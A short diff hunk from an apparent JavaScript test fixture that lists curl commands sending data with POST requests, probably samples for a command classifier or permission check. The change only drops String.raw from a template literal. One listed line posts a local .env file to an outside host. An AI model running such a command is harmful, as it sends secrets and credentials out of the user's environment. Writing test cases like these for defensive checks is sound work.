@@ -167,7 +167,7 @@ const elsewhere = lines(String.raw`
 `);
 
 /** More than getting something. */
-const more = lines(String.raw`
+const more = lines(`
   curl -d a=b https://good.example
   curl -d @.env https://good.example
   curl --data-binary @a.txt https://good.example
